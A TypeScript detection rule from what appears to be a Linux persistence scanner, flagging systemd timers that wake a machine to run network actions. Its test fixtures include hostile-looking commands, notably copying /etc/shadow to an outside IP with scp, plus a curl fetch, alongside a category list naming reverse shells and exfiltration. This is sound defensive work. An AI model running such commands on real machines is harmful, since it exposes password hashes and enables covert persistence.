import type { Behaviour, BehaviourKind } from "../programs/program.ts";
import { value } from "../units/unit.ts";
import { evidenceAt } from "./evidence.ts";
import { shipped, timed } from "./example-host.ts";
import type { ActivationRule } from "./rule.ts";
import { behavioursOfKind, isShipped } from "./subject.ts";

const NETWORK: ReadonlySet<BehaviourKind> = new Set([
  "fetch",
  "network-ping",
  "tunnel",
  "reverse-shell",
  "exfiltrates",
]);

/** A copy to or from another host, as backups make them. */
function isCopy({ confidence, detail }: Behaviour): boolean {
  return confidence === "low" && /^(rsync|rclone|scp|sftp)$/.test(detail.program ?? "");
}

export const wakesMachineForNetwork: ActivationRule = {
  id: "wakes-machine-for-network",
  subject: "activation",
  title: "Wakes a sleeping machine to talk to the network",
  severity: "medium",
  confidence: "low",
  signal: "suspicious",
  family: "schedule",
  depth: "regular",
  techniques: ["T1053.006", "T1205"],
  controls: ["SC-7", "SI-4"],
  why: "WakeSystem= turns the machine on for the job. With a download or a message it keeps contact from a machine its owner believes to be off.",
  benign: ["Desktop backups at night by a backup program (not accused)"],
  clears: "drop WakeSystem=, or say with an acceptance why the machine must wake",
  references: ["man:systemd.timer(5)"],

  *check(activation, inventory) {
    if (
      activation.kind !== "timer" ||
      !activation.record.timer?.wakeSystem ||
      isShipped(activation, inventory)
    )
      return;
    const setting = value(activation.record.timer.unit, "Timer", "WakeSystem");
    const first = [...behavioursOfKind(activation, NETWORK)].find(({ behaviour }) => !isCopy(behaviour));
    if (setting === null || first === undefined) return;
    yield {
      says: `${activation.unit} wakes the machine, and then: ${first.behaviour.says}`,
      evidence: [evidenceAt(inventory, setting.span), evidenceAt(inventory, first.behaviour.span)],
    };
  },

  examples: () => ({
    fires: [
      timed("ExecStart=/usr/bin/curl -s http://192.0.2.7/x", {}, "OnCalendar=daily\nWakeSystem=true"),
      timed("ExecStart=/usr/bin/scp /etc/shadow 192.0.2.7:x", {}, "OnCalendar=daily\nWakeSystem=true"),
    ],
    quiet: [
      timed("ExecStart=/usr/bin/restic backup /srv", {}, "OnCalendar=daily\nWakeSystem=true"),
      timed("ExecStart=/usr/bin/rsync -a /srv/ nas.example.test:x", {}, "OnCalendar=daily\nWakeSystem=true"),
      timed("ExecStart=/usr/bin/curl -s http://192.0.2.7/x"),
      shipped(
        "vendor",
        "ExecStart=/usr/bin/curl -s http://192.0.2.7/x",
        {},
        "OnCalendar=daily\nWakeSystem=true",
      ),
    ],
  }),
};
